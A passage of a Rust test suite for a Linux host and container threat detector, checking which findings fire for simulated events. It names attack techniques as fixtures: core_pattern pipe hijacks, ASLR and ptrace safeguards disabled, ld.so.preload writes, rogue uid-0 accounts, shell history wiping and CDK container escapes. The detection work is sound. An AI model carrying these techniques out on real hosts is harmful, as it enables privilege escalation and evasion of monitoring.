            file_event("unlink", "/var/log/app/old.log", |f| f.ret = 0),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "log appended by a daemon",
            file_event("openWrite", "/var/log/app.log", |f| {
                f.open_flags = Some("2101".into());
            }),
            &[],
        ),
        (
            "the kubelet links a container's log when it starts",
            file_event(
                "symlink",
                "/var/log/containers/web-0_shop_web-4f1d.log",
                |f| {
                    f.process = known(KUBELET);
                    f.ret = 0;
                },
            ),
            &[],
        ),
        (
            "the kubelet unlinks it when the container goes",
            file_event(
                "unlink",
                "/var/log/containers/web-0_shop_web-4f1d.log",
                |f| {
                    f.process = known(KUBELET);
                    f.ret = 0;
                },
            ),
            &[],
        ),
        (
            "the kubelet rotates a container log",
            file_event("rename", "/var/log/pods/shop_web-0_1a2b/web/0.log", |f| {
                f.process = known(KUBELET);
                f.path2 = Some("/var/log/pods/shop_web-0_1a2b/web/0.log.20261205-010203".into());
                f.resolved_path2 = f.path2.as_deref().map(PathBuf::from);
                f.ret = 0;
            }),
            &[],
        ),
        (
            "the runtime appends to a container log",
            file_event(
                "openWrite",
                "/var/log/pods/shop_web-0_1a2b/web/0.log",
                |f| {
                    f.process = known(CONTAINERD);
                    f.open_flags = Some("2101".into());
                },
            ),
            &[],
        ),
        (
            "a program that only calls itself kubelet (comm) unlinks a container's log",
            file_event(
                "unlink",
                "/var/log/containers/web-0_shop_web-4f1d.log",
                |f| {
                    f.process.comm = "kubelet".into();
                    f.ret = 0;
                },
            ),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "another program removes a container log",
            file_event("unlink", "/var/log/pods/shop_web-0_1a2b/web/0.log", |f| {
                f.ret = 0
            }),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "another program truncates one",
            file_event(
                "openWrite",
                "/var/log/containers/web-0_shop_web-4f1d.log",
                |_| {},
            ),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "wtmp written at an offset by sshd",
            file_event("openWrite", "/var/log/wtmp", |f| {
                f.process = known(SSHD);
                f.open_flags = Some("100001".into());
            }),
            &[],
        ),
        (
            "a unit enabled by systemctl",
            file_event(
                "symlink",
                "/etc/systemd/system/multi-user.target.wants/x.service",
                |f| {
                    f.process = known(SYSTEMCTL);
                    f.ret = 0;
                },
            ),
            &[],
        ),
        (
            "a unit linked by a program that only calls itself systemctl (comm)",
            file_event(
                "symlink",
                "/etc/systemd/system/multi-user.target.wants/x.service",
                |f| {
                    f.process.comm = "systemctl".into();
                    f.ret = 0;
                },
            ),
            &[
                T::PersistenceSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a unit written by an editor",
            file_event("openWrite", "/etc/systemd/system/x.service", |f| {
                f.process.comm = "vim".into();
            }),
            &[
                FindingType::PersistenceSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "log rotated by logrotate",
            file_event("rename", "/var/log/syslog", |f| {
                f.process = known(LOGROTATE);
                f.path2 = Some("/var/log/syslog.1".into());
                f.resolved_path2 = Some(PathBuf::from("/var/log/syslog.1"));
            }),
            &[],
        ),
        (
            "history appended by bash",
            file_event("openWrite", "/root/.bash_history", |f| {
                f.process = known(BASH);
                f.open_flags = Some("2001".into());
                f.matched_by = vec!["name"];
            }),
            &[],
        ),
        (
            "history written by bash through a temporary file renamed over it",
            file_event("rename", "/root/.bash_history-77.tmp", |f| {
                f.process = known(BASH);
                f.path2 = Some("/root/.bash_history".into());
                f.resolved_path2 = Some(PathBuf::from("/root/.bash_history"));
                f.matched_by = vec!["name"];
                f.ret = 0;
            }),
            &[],
        ),
        (
            "history truncated by a shell redirection",
            file_event("openWrite", "/root/.bash_history", |f| {
                f.process = known(BASH);
                f.matched_by = vec!["name"];
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "history wiped by another program",
            file_event("openWrite", "/root/.bash_history", |f| {
                f.process.comm = "cp".into();
                f.matched_by = vec!["name"];
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "history removed",
            file_event("unlink", "/home/ann/.zsh_history", |f| {
                f.ret = 0;
                f.matched_by = vec!["name"];
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "unit file installed by dpkg",
            file_event("openWrite", "/lib/systemd/system/x.service", |f| {
                f.process = known(DPKG);
            }),
            &[],
        ),
        (
            "journal vacuumed by journalctl",
            file_event(
                "unlink",
                "/var/log/journal/0123/system@0005f-0000000000000001-0005f.journal",
                |f| f.ret = 0,
            ),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "ASLR switched off",
            file_event("openWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("0".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        // The `sysctl` hook's records: each value as it was written.
        (
            "ASLR switched off, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("0".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "ASLR halved, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("1".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "ASLR set to full randomisation with a leading zero, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("02".into());
            }),
            &[],
        ),
        (
            "ASLR set above 2 (full randomisation), as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("5".into());
            }),
            &[],
        ),
        (
            "a value the kernel refuses for ASLR (not a number), as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("off".into());
            }),
            &[],
        ),
        (
            "ASLR left without heap randomisation by a negative value, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("-1".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "ASLR opened for writing while the sysctl hook runs (its record is judged)",
            file_event("openWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_by_hook = true;
            }),
            &[],
        ),
        (
            "every perf event opened to unprivileged users, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/perf_event_paranoid", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("-1".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "core dumps piped into a program in /tmp, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("|/tmp/x %p".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "the core pattern set back to a file, as written (sysctl hook)",
            file_event("sysctlWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("core".into());
            }),
            &[],
        ),
        (
            "ASLR switched off through the host's /proc given to a container, as written \
             (sysctl hook)",
            file_event(
                "sysctlWrite",
                "/host_proc/sys/kernel/randomize_va_space",
                |f| {
                    f.matched_by = vec!["sysctl"];
                    f.process.container = container();
                    f.process.host_namespaces = false;
                    f.sysctl_setting = Some(PathBuf::from("/proc/sys/kernel/randomize_va_space"));
                    f.sysctl_value = Some("0".into());
                },
            ),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "the host's core pattern written through its /proc given to a container, as \
             written (sysctl hook)",
            file_event("sysctlWrite", "/host_proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["sysctl"];
                f.process.container = container();
                f.process.host_namespaces = false;
                f.sysctl_setting = Some(PathBuf::from("/proc/sys/kernel/core_pattern"));
                f.sysctl_value = Some("|/var/lib/containers/storage/overlay/0a/merged/x".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a network setting written (sysctl hook): not judged",
            file_event("sysctlWrite", "/proc/sys/net/ipv4/ip_forward", |f| {
                f.matched_by = vec!["sysctl"];
                f.sysctl_value = Some("1".into());
            }),
            &[],
        ),
        (
            "/etc/ld.so.preload written",
            file_event("openWrite", "/etc/ld.so.preload", |f| {
                f.matched_by = vec!["exact"];
            }),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "kptr_restrict switched off",
            file_event("openWrite", "/proc/sys/kernel/kptr_restrict", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("0".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "ptrace_scope switched off",
            file_event("openWrite", "/proc/sys/kernel/yama/ptrace_scope", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("0".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "ptrace_scope made stricter",
            file_event("openWrite", "/proc/sys/kernel/yama/ptrace_scope", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("2".into());
            }),
            &[],
        ),
        (
            "userfaultfd opened to unprivileged users",
            file_event("openWrite", "/proc/sys/vm/unprivileged_userfaultfd", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("1".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "every perf event opened to unprivileged users",
            file_event("openWrite", "/proc/sys/kernel/perf_event_paranoid", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("-1".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "perf_event_paranoid at its default",
            file_event("openWrite", "/proc/sys/kernel/perf_event_paranoid", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("2".into());
            }),
            &[],
        ),
        (
            "page zero mappable",
            file_event("openWrite", "/proc/sys/vm/mmap_min_addr", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("0".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "links in world-writable directories followed",
            file_event("openWrite", "/proc/sys/fs/protected_symlinks", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("0".into());
            }),
            &[T::DefenseEvasionSuspiciousCommand],
        ),
        (
            "a file merely named like a setting",
            file_event("openWrite", "/srv/app/kptr_restrict", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = None;
            }),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "core dumps piped into a program in /tmp",
            file_event("openWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("|/tmp/x %p".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "core dumps piped into a program named through ..",
            file_event("openWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("|/usr/../tmp/x".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "the distribution's core-dump handler set on the host",
            file_event("openWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("|/usr/lib/systemd/systemd-coredump %P %u %g".into());
            }),
            &[],
        ),
        (
            "a core file pattern set on the host",
            file_event("openWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("/var/crash/core.%p".into());
            }),
            &[],
        ),
        (
            "the host's core pattern written from a container, whatever it reads",
            file_event("openWrite", "/proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
                f.process.container = container();
                f.process.host_namespaces = false;
                f.sysctl_value = Some("|/usr/lib/systemd/systemd-coredump %P".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a file merely named core_pattern",
            file_event("openWrite", "/srv/app/core_pattern", |f| {
                f.matched_by = vec!["name"];
            }),
            &[T::PrivilegeEscalationSensitiveFileModified],
        ),
        (
            "the host's core pattern written through the host's /proc given to a container \
             (CDK's mount-procfs)",
            file_event("openWrite", "/host_proc/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
                f.process.container = container();
                f.process.host_namespaces = false;
                f.sysctl_setting = Some(PathBuf::from("/proc/sys/kernel/core_pattern"));
                f.sysctl_value = Some("|/var/lib/docker/overlay2/0a1b/merged/cmd_x".into());
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a plain file at a path like a procfs mount's (not on procfs: no setting)",
            file_event("openWrite", "/srv/snapshot/sys/kernel/core_pattern", |f| {
                f.matched_by = vec!["name"];
            }),
            &[T::PrivilegeEscalationSensitiveFileModified],
        ),
        (
            "a container writing its own cgroup's devices.allow (CDK's rewrite-cgroup-devices)",
            file_event(
                "openWrite",
                "/tmp/cdk_dcgroup_a/libpod_parent/libpod-0a11/devices.allow",
                |f| {
                    f.matched_by = vec!["name"];
                    f.process.container = container();
                    f.process.host_namespaces = false;
                },
            ),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a runtime writing a container's devices.allow from the host",
            file_event(
                "openWrite",
                "/sys/fs/cgroup/devices/libpod_parent/libpod-0a11/devices.allow",
                |f| {
                    f.matched_by = vec!["name"];
                    f.process = known(RUNC);
                },
            ),
            &[],
        ),
        (
            "a container reading devices.allow",
            file_event("openRead", "/sys/fs/cgroup/devices/devices.allow", |f| {
                f.matched_by = vec!["name"];
                f.process.container = container();
            }),
            &[],
        ),
        (
            "the kernel running a release agent from a container's layer (CDK's mount-cgroup)",
            exec_event(
                "/var/lib/containers/storage/overlay/5a4e/diff/cdk_cgexp_a.sh",
                |e| {
                    e.process.ppid = 2;
                    e.exe = PathBuf::from("/usr/bin/dash");
                    e.argv = vec![
                        "/bin/sh".into(),
                        "/var/lib/containers/storage/overlay/5a4e/diff/cdk_cgexp_a.sh".into(),
                        "/x_a".into(),
                    ];
                },
            ),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "the kernel running a core-dump handler from /opt",
            exec_event("/opt/crash/handler", |e| e.process.ppid = 2),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "the kernel running a helper named through ..",
            exec_event("/usr/../opt/h", |e| e.process.ppid = 2),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "the kernel running the distribution's core-dump handler",
            exec_event("/usr/lib/systemd/systemd-coredump", |e| e.process.ppid = 2),
            &[],
        ),
        (
            "the kernel running modprobe",
            exec_event("/sbin/modprobe", |e| e.process.ppid = 2),
            &[],
        ),
        (
            "a host process running a program in a container's layer (a runtime's hook)",
            exec_event("/var/lib/containers/storage/overlay/5a4e/diff/app", |_| {}),
            &[],
        ),
        (
            "a container process joining the host's mount namespace",
            activity("setns", |a| {
                a.process.container = container();
                a.process.host_namespaces = false;
                a.inode = Some(4026531841);
                a.host_namespaces_joined = vec!["mnt"];
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "a container runtime joining a container's namespaces",
            activity("setns", |a| {
                a.process.container = container();
                a.process.host_namespaces = false;
                a.inode = Some(4026532500);
            }),
            &[],
        ),
        (
            "a host process joining the host's namespaces",
            activity("setns", |a| {
                a.inode = Some(4026531841);
                a.host_namespaces_joined = vec!["mnt"];
            }),
            &[],
        ),
        (
            "a refused setns into the host's namespaces",
            activity("setns", |a| {
                a.process.container = container();
                a.ret = -1;
                a.error = Some("EPERM".into());
            }),
            &[],
        ),
        (
            "root gained with setuid(0) through a capability",
            activity("setuid", |a| {
                a.before = Some([65534, 65534, 65534, 65534]);
                a.requested = vec![0];
            }),
            &[T::PrivilegeEscalationElevationToRoot],
        ),
        (
            "root taken back with setresuid from a saved uid of 0",
            activity("setresuid", |a| {
                a.before = Some([1000, 1000, 1000, 1000]);
                a.requested = vec![u32::MAX, 0, u32::MAX];
                a.process.uid = 1000;
            }),
            &[T::PrivilegeEscalationElevationToRoot],
        ),
        (
            "sudo taking its root back (a standard setuid helper, by executable)",
            activity("setresuid", |a| {
                a.process = known(SUDO);
                a.process.uid = 1000;
                a.before = Some([1000, 1000, 1000, 1000]);
                a.requested = vec![u32::MAX, 0, u32::MAX];
            }),
            &[],
        ),
        (
            "a program named sudo that is not",
            activity("setuid", |a| {
                a.process.comm = "sudo".into();
                a.before = Some([1000, 1000, 1000, 1000]);
                a.requested = vec![0];
            }),
            &[T::PrivilegeEscalationElevationToRoot],
        ),
        (
            "root dropping to a user",
            activity("setuid", |a| {
                a.before = Some([0, 0, 0, 0]);
                a.requested = vec![1000];
                a.process.uid = 1000;
                a.process.euid = 1000;
            }),
            &[],
        ),
        (
            "a setuid-root program setting its real uid (already effectively root)",
            activity("setuid", |a| {
                a.before = Some([1000, 0, 1000, 1000]);
                a.requested = vec![0];
            }),
            &[],
        ),
        (
            "a refused setuid(0)",
            activity("setuid", |a| {
                a.before = Some([1000, 1000, 1000, 1000]);
                a.requested = vec![0];
                a.ret = -1;
                a.error = Some("EPERM".into());
                a.process.uid = 1000;
                a.process.euid = 1000;
            }),
            &[],
        ),
        (
            "ASLR set to full randomisation",
            file_event("openWrite", "/proc/sys/kernel/randomize_va_space", |f| {
                f.matched_by = vec!["name"];
                f.sysctl_value = Some("2".into());
            }),
            &[],
        ),
        (
            "another process's memory opened for reading (a dump)",
            file_event("openRead", "/proc/77/mem", |f| {
                f.matched_by = vec!["procMem"];
                f.proc_mem_pid = Some(77);
                f.open_flags = None;
            }),
            &[
                T::DefenseEvasionProcessInjectionProc,
                T::CredentialAccessMemoryDumpCreated,
            ],
        ),
        (
            "another process's memory, a refused read (the attempt counts)",
            file_event("openRead", "/proc/1/mem", |f| {
                f.matched_by = vec!["procMem"];
                f.proc_mem_pid = Some(1);
                f.ret = -13;
                f.error = Some("EACCES".into());
            }),
            &[
                T::DefenseEvasionProcessInjectionProc,
                T::CredentialAccessMemoryDumpCreated,
            ],
        ),
        (
            "failed write to shadow",
            file_event("openWrite", "/etc/shadow", |f| {
                f.ret = -13;
                f.error = Some("EACCES".into());
            }),
            &[],
        ),
        (
            "an added prefix keeps its category",
            file_event("openWrite", "/srv/watched/cfg", |_| {}),
            &[T::PersistenceSensitiveFileModified],
        ),
        (
            "a path outside the set",
            file_event("openWrite", "/srv/other/cfg", |_| {}),
            &[],
        ),
        (
            "a system program overwritten (cp /tmp/x /usr/bin/sudo)",
            file_event("openWrite", "/usr/bin/sudo", |_| {}),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a file moved over a system program (mv x /usr/sbin/sshd)",
            file_event("rename", "/tmp/x", |f| {
                f.path2 = Some("/usr/sbin/sshd".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/sbin/sshd"));
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a system program unpacked and renamed into place by dpkg (an upgrade)",
            file_event("rename", "/usr/bin/sudo.dpkg-new", |f| {
                f.process = known(DPKG);
                f.path2 = Some("/usr/bin/sudo".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/bin/sudo"));
            }),
            &[],
        ),
        (
            "a program installed into /usr/local/bin (make install)",
            file_event("openWrite", "/usr/local/bin/tool", |_| {}),
            &[],
        ),
        (
            "a new program dropped into /usr/bin by a shell",
            file_event("openWrite", "/usr/bin/kdevtmpfsi", |_| {}),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a hard link made into /usr/bin (ln /tmp/x /usr/bin/y)",
            file_event("link", "/tmp/x", |f| {
                f.path2 = Some("/usr/bin/y".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/bin/y"));
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "sshd's session program replaced (Red Hat's /usr/libexec/openssh)",
            file_event("openWrite", "/usr/libexec/openssh/sshd-session", |_| {}),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "ssh-keysign replaced (Debian's /usr/lib/openssh)",
            file_event("rename", "/tmp/k", |f| {
                f.path2 = Some("/usr/lib/openssh/ssh-keysign".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/lib/openssh/ssh-keysign"));
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "update-alternatives links a new alternative into /usr/bin",
            file_event("rename", "/usr/bin/editor.dpkg-tmp", |f| {
                f.process = known(UPDATE_ALTERNATIVES);
                f.path2 = Some("/usr/bin/editor".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/bin/editor"));
            }),
            &[],
        ),
        (
            "a program renamed to update-alternatives elsewhere is not it",
            file_event("rename", "/tmp/x", |f| {
                f.process = proc_ref(5200, "update-alternatives");
                f.path2 = Some("/usr/bin/editor".into());
                f.resolved_path2 = Some(PathBuf::from("/usr/bin/editor"));
            }),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
        (
            "a file in a directory under /usr/bin is no system program",
            file_event("openWrite", "/usr/bin/x/y", |_| {}),
            &[T::DefenseEvasionSensitiveFileModified],
        ),
        (
            "a uid-0 account appended to /etc/passwd (read back after the write)",
            file_event("openWrite", "/etc/passwd", |f| {
                f.open_flags = Some("2001".into());
                f.accounts_changed = Some(AccountChanges {
                    root_added: vec!["toor2".into()],
                    ..AccountChanges::default()
                });
            }),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::PrivilegeEscalationSuspiciousCommand,
            ],
        ),
        (
            "/etc/passwd moved into place with a second root account (useradd -o -u 0)",
            file_event("rename", "/etc/passwd+", |f| {
                f.process = known(USERADD);
                f.path2 = Some("/etc/passwd".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/passwd"));
                f.accounts_changed = Some(AccountChanges {
                    root_added: vec!["x".into()],
                    ..AccountChanges::default()
                });
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "an ordinary account added to /etc/passwd (only root has uid 0)",
            file_event("rename", "/etc/passwd+", |f| {
                f.process = known(USERADD);
                f.path2 = Some("/etc/passwd".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/passwd"));
            }),
            &[],
        ),
        (
            "a shadow password emptied (passwd -d, a line edited)",
            file_event("openWrite", "/etc/shadow", |f| {
                f.open_flags = Some("1001".into());
                f.accounts_changed = Some(AccountChanges {
                    passwordless_added: vec![Passwordless {
                        name: "ann".into(),
                        root: false,
                    }],
                    ..AccountChanges::default()
                });
            }),
            &[
                T::PrivilegeEscalationSensitiveFileModified,
                T::PrivilegeEscalationSuspiciousCommand,
            ],
        ),
        (
            "a member added to sudo by usermod -aG (the account tool's own rename)",
            file_event("rename", "/etc/group+", |f| {
                f.process = known(USERADD);
                f.path2 = Some("/etc/group".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/group"));
                f.accounts_changed = Some(AccountChanges {
                    admin_members_added: vec![AdminMember {
                        group: "sudo".into(),
                        member: "ann".into(),
                    }],
                    ..AccountChanges::default()
                });
            }),
            &[T::PrivilegeEscalationSuspiciousCommand],
        ),
        (
            "/etc/group rewritten granting nothing (groupadd)",
            file_event("rename", "/etc/group+", |f| {
                f.process = known(USERADD);
                f.path2 = Some("/etc/group".into());
                f.resolved_path2 = Some(PathBuf::from("/etc/group"));
            }),
            &[],
        ),
        // Static pods: the kubelet runs every manifest there; kubeadm writes the control
        // plane's.
        (
            "a static pod manifest added",
            file_event(
                "openWrite",
                "/etc/kubernetes/manifests/backdoor.yaml",
                |f| f.process = proc_ref(5000, "cp"),
            ),
            &[T::PersistenceSensitiveFileModified],
        ),
        (
            "kubeadm writing the control plane's manifests",
            file_event(
                "openWrite",
                "/etc/kubernetes/manifests/kube-apiserver.yaml",
                |f| f.process = known(KUBEADM),
            ),
            &[],
        ),
        // Container engines change containers' files from the host: an image unpacked with a
        // `.bashrc`, a container removed whose shell kept a history. Those are the container's
        // files, not the host's of the same names. The same names on the host, and a file moved
        // out of the layers onto a host path, are judged.
        (
            "a removed container's history, deleted by the engine",
            file_event(
                "unlink",
                "/var/lib/containers/storage/overlay/d823e16c/diff/root/.bash_history",
                |f| {
                    f.ret = 0;
                    f.process = proc_ref(5000, "podman");
                },
            ),
            &[],
        ),
        (
            "an image unpacked with a .bashrc and authorized_keys",
            file_event(
                "openWrite",
                "/var/lib/docker/overlay2/4f1c/diff/root/.ssh/authorized_keys",
                |f| f.process = proc_ref(5000, "dockerd"),
            ),
            &[],
        ),
        (
            "rootless podman's layers",
            file_event(
                "openWrite",
                "/home/ann/.local/share/containers/storage/overlay/9a/diff/etc/cron.d/job",
                |_| {},
            ),
            &[],
        ),
        (
            "root's history deleted on the host",
            file_event("unlink", "/root/.bash_history", |f| f.ret = 0),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "a path that climbs out of the layers",
            file_event(
                "unlink",
                "/var/lib/docker/overlay2/../../../../root/.bash_history",
                |f| f.ret = 0,
            ),
            &[
                T::DefenseEvasionSensitiveFileModified,
                T::DefenseEvasionSuspiciousCommand,
            ],
        ),
        (
            "a cron file moved out of a container's layers onto the host",
            file_event(
                "rename",
                "/var/lib/docker/overlay2/4f1c/diff/tmp/job",
                |f| {
                    f.ret = 0;
                    f.path2 = Some("/etc/cron.d/job".into());
                    f.resolved_path2 = Some(PathBuf::from("/etc/cron.d/job"));
                },
            ),
            &[
                T::PersistenceSensitiveFileModified,
                T::PersistenceSuspiciousCommand,
            ],
        ),
    ];
    let mut fired: std::collections::BTreeSet<String> = std::collections::BTreeSet::new();
    for (name, event, want) in &cases {
        let mut d = detector();
        let got = types(&mut d, event);
        let want: Vec<String> = want.iter().map(|t| t.as_str().to_owned()).collect();
        assert_eq!(got, want, "{name}");
        fired.extend(want);
    }
    for t in [
        T::ExecutionNewBinaryExecuted,
        T::ExecutionNewLibraryLoaded,
        T::DefenseEvasionFilelessExecution,
        T::DefenseEvasionProcessInjectionProc,
        T::CredentialAccessMemoryDumpCreated,
        T::DefenseEvasionProcessInjectionPtrace,
        T::DefenseEvasionProcessInjectionVirtualMemoryWrite,
        T::DefenseEvasionPtraceAntiDebugging,
        T::PrivilegeEscalationUserfaultfdUsage,
        T::DefenseEvasionKernelModuleLoaded,
        T::PrivilegeEscalationContainerMountsHostDirectory,
        T::PrivilegeEscalationDockerSocketAccessed,
        T::PrivilegeEscalationRuncContainerEscape,
        T::PrivilegeEscalationCGroupsReleaseAgentModified,
        T::PersistenceSensitiveFileModified,
        T::PrivilegeEscalationSensitiveFileModified,
        T::DefenseEvasionSensitiveFileModified,
    ] {
        assert!(fired.contains(t.as_str()), "no case fires {t}");
    }
}

fn unix_connect(path: &str, container: Option<Container>) -> NetInfo {
    let mut process = proc_ref(7000, "curl");
    process.container = container;
    NetInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process,
        ret: 0,
        error: None,
        fd: 3,
        family: "unix",
        protocol: "unknown",
        remote: None,
        unix_path: Some(path.into()),
        repeats: 0,
        outcome: None,
    }
}

#[test]
fn contexts_name_the_modifier_the_target_the_mount_and_the_file() {
    let mut d = detector();
    let out = d.process(
        &exec_event("/app/dropper", |e| {
            e.written_by = Some(writer("cp"));
            e.process.container = container();
        }),
        &NoLookup,
    );
    let f = &out[0].finding;
    assert_eq!(f.severity_label, SeverityLabel::Medium);
    let m = f.context.modifying_process.as_ref().unwrap();
    assert_eq!((m.pid, m.name.as_str(), m.uid), (78, "cp", 1000));
    assert_eq!(f.context.file_path.as_deref(), Some("/app/dropper"));
    assert_eq!(
        f.context.modified_at.as_ref().map(|t| t.0.to_string()),
        Some("2026-11-27T09:59:00Z".into())
    );

    struct Table;
    impl ProcessLookup for Table {
        fn get(&self, pid: u32) -> Option<KnownProcess> {
            (pid == 77).then(|| KnownProcess {
                pid: 77,
                ppid: 1,
                start_time_ns: 5,
                comm: "victim".into(),
                exe: Some(PathBuf::from("/usr/bin/victim")),
                sha256: None,
                cwd: None,
                uid: 0,
                euid: 0,
            })
        }
    }
    let out = d.process(
        &activity("processVmWritev", |a| {
            a.target_pid = Some(77);
            a.ret = 8;
        }),
        &Table,
    );
    let f = &out[0].finding;
    assert_eq!(f.severity_label, SeverityLabel::High);
    let t = f.context.target_process.as_ref().unwrap();
    assert_eq!(
        (t.pid, t.name.as_str(), t.executable_path.as_str()),
        (77, "victim", "/usr/bin/victim")
    );
    assert_eq!(f.context.additional["targetPid"], "77");

    let out = d.process(
        &activity("mount", |a| {
            a.process.container = container();
            a.source = Some("/".into());
            a.target = Some("/host".into());
            a.flags = Some(0x1000);
        }),
        &NoLookup,
    );
    let f = &out[0].finding;
    assert_eq!(
        (
            f.context.mount_source.as_deref(),
            f.context.mount_target.as_deref()
        ),
        (Some("/"), Some("/host"))
    );
    assert!(f.resource.container.is_some());

    let out = d.process(
        &file_event("openWrite", "/etc/cron.d/evil", |_| {}),
        &NoLookup,
    );
    let f = &out[0].finding;
    assert_eq!(
        (
            f.context.file_path.as_deref(),
